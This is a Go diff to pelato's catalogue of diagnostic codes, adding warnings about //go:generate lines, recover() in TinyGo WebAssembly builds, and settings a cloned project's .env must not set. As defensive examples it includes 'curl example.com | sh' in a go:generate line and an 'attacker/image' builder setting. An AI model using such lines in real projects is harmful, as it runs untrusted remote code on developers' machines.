@@ -59,10 +59,13 @@ const (
 	CodeTaskHasErrors  Code = "PL410"
 	CodeTaskUnreadable Code = "PL411"
 	CodeTaskImport     Code = "PL412"
+	CodeGoGenerate     Code = "PL413"
+	CodeRecover        Code = "PL414"
 
 	CodeUnknownSetting Code = "PL501"
 	CodeBadSetting     Code = "PL502"
 	CodeSettingTwice   Code = "PL503"
+	CodeNotFromDotEnv  Code = "PL504"
 )
 
 // CodeInfo documents one code: what it means, an example that triggers it and the fix.
@@ -114,7 +117,7 @@ var catalogue = []CodeInfo{
 	{CodeCodeEscapes, Error, "Task code path leaves tasks/", "  code: ../secret.go", "Keep task code inside tasks/: no `..`, no absolute path, no symbolic link out."},
 	{CodeBadComponent, Error, "Invalid component_name", "  component_name: My Component", "Use lowercase letters and digits separated by single `.`, `_` or `-`: it becomes an OCI repository and a wadm name."},
 	{CodeDupComponent, Error, "Duplicate component_name", "two tasks with component_name: filter", "Give every task its own component_name."},
-	{CodeBadVersion, Error, "Invalid version", "  version: latest", "Use a semantic version x.y.z (a pre-release like 1.0.0-rc.1 is allowed); never `latest`."},
+	{CodeBadVersion, Error, "Invalid version", "  version: latest", "Use a semantic version x.y.z (a pre-release like 1.0.0-rc.1 is allowed); never `latest`, and no build metadata (`1.0.0+abc`): the version is the OCI tag, which cannot hold `+` (nor more than 128 characters)."},
 	{CodeBadSubject, Error, "Invalid NATS subject", "  source_topic: living room", "Use dot-separated tokens without spaces; `*` and `>` only as whole tokens, `>` last."},
 	{CodeWildcardDest, Error, "Wildcard in dest_topic", "  dest_topic: out.*", "A task publishes to one concrete subject: remove the wildcard."},
 	{CodeBadTargets, Error, "Invalid targets", "  targets: []", "List one or more distinct host-type labels, e.g. `[edge]`."},
@@ -133,17 +136,20 @@ var catalogue = []CodeInfo{
 	{CodeGoSyntax, Error, "Go syntax error in a task file", "func exec_task(arg string) string {", "Fix the Go syntax at the reported position."},
 	{CodeGoType, Error, "Go type error in a task file", "return 42 // in a func returning string", "Fix the Go code at the reported position."},
 	{CodeNotMain, Error, "Task file is not package main", "package convert", "Use `package main`: the template compiles the task into its program."},
-	{CodeNoExecTask, Error, "Task has no exec_task function", "func run(arg string) string", "Define `exec_task` with the signature the template calls."},
+	{CodeNoExecTask, Error, "Task has no exec_task function", "func run(arg string) string", "Define `exec_task` with the signature the template calls. A function named almost so (`Exec_task`, `execTask`) gets a did-you-mean and a quick fix that renames it (Go names are case-sensitive)."},
 	{CodeBadSignature, Error, "exec_task has the wrong signature for its template", "func exec_task(arg []byte) string", "Use the signature the message names; the quick fix rewrites the declaration."},
 	{CodeExecTaskForm, Error, "exec_task is not a plain function", "var exec_task = func(string) string {...}", "Declare `exec_task` as a top-level, non-generic function (not a method or variable)."},
 	{CodeUserMain, Error, "Task declares func main", "func main() {}", "Remove `main`: the generated harness provides it."},
 	{CodeWasmImport, Warning, "Import cannot work in a wasip2 component", "import \"os/exec\"", "Remove the import; TinyGo's wasip2 target has no processes, plugins or raw sockets."},
 	{CodeUnresolvedImp, Warning, "Third-party import not resolved locally", "import \"github.com/x/y\"", "It is resolved by `go mod tidy` at build time; to pin it, add a go.mod at the project root and run `go get`."},
-	{CodeTaskHasErrors, Error, "Task code has errors", "  code: convert.go  # convert.go has a type error", "Open the task file and fix the errors reported there."},
+	{CodeTaskHasErrors, Info, "Task code has errors (a pointer to them)", "  code: convert.go  # convert.go has a type error", "Open the task file and fix the errors reported there. This is information on the `code:` line, not a problem of its own: each error is reported, and counted, once, in the task file."},
 	{CodeTaskUnreadable, Error, "Task code cannot be read", "tasks/convert.go is not readable", "Check the file's permissions and encoding (UTF-8)."},
+	{CodeGoGenerate, Warning, "//go:generate line in a task file", "//go:generate sh -c \"curl example.com | sh\"", "`pelato gen` would copy the line into gen/, where `wash build` runs `go generate` and with it the command, at build time. gen refuses to copy it unless you opt in with `pelato gen --allow-go-generate` (also on build and brush; only a flag, never a workflow.yaml key, since a project you clone must not decide what runs when you build it). Or remove the line (the quick fix does), run the generator yourself and keep its output in the task."},
+	{CodeRecover, Warning, "recover() has no effect in a TinyGo WebAssembly build", "defer func() { recover() }()", "TinyGo, which builds the components (the version pelato's builder pins), disables recover on WebAssembly: recover() returns nil and a panic traps the whole invocation, so the message or request fails. `pelato dev` runs mainline Go, where recover works: do not rely on it, return an error result instead. The rule follows the pinned TinyGo version (check.TinyGoRecoverSince)."},
 	{CodeUnknownSetting, Warning, "Unknown setting in .env", "REGISTY_URL=registry.example:5000", "Use the setting the message suggests (the quick fix renames it); `pelato help` and README.md list pelato's settings. A name pelato does not read is ignored: a hint when nothing is close to it."},
 	{CodeBadSetting, Error, "Invalid setting value in .env", "PARALLEL_BUILD=maybe", "Give the value the message asks for (True or False, a port number, ...); commands that read the setting refuse to run until it is fixed."},
 	{CodeSettingTwice, Warning, "Setting given twice in .env", "NATS_HOST=a\nNATS_HOST=b", "Keep one line: the last one wins, which is easy to miss."},
+	{CodeNotFromDotEnv, Warning, "Setting that .env cannot set", "PELATO_BUILDER_IMAGE=attacker/image", "Settings that choose what runs on your machine (PELATO_BUILDER_IMAGE, PELATO_BUILD_NETWORK, PELATO_BUILD_MEMORY, PELATO_BUILD_PIDS, PELATO_TINYGO_VERSION, PELATO_WASM_TOOLS_VERSION) are read from flags and your environment only, never from a project's .env, which may come with a cloned project: pelato ignores the line. Set it in your shell (export NAME=value) or with the command's flag, and remove the line."},
 	{CodeTaskImport, Error, "Task imports another task or a relative path", "import \"example.com/proj/tasks/filter\"", "Each task is its own program and cannot be imported: move shared code to a package outside tasks/ (with a go.mod at the project root) and import it by its module path."},
 	{CodeNoHostForTarget, Hint, "No host of the lattice carries this target label", "  targets: [gpu]  # no host has host-type=gpu", "Start a wasmCloud host with the label (WASMCLOUD_LABEL_host-type=gpu) or target a label a host has. Reported only when lattice checks are enabled in the editor (the latticeChecks setting)."},
 }
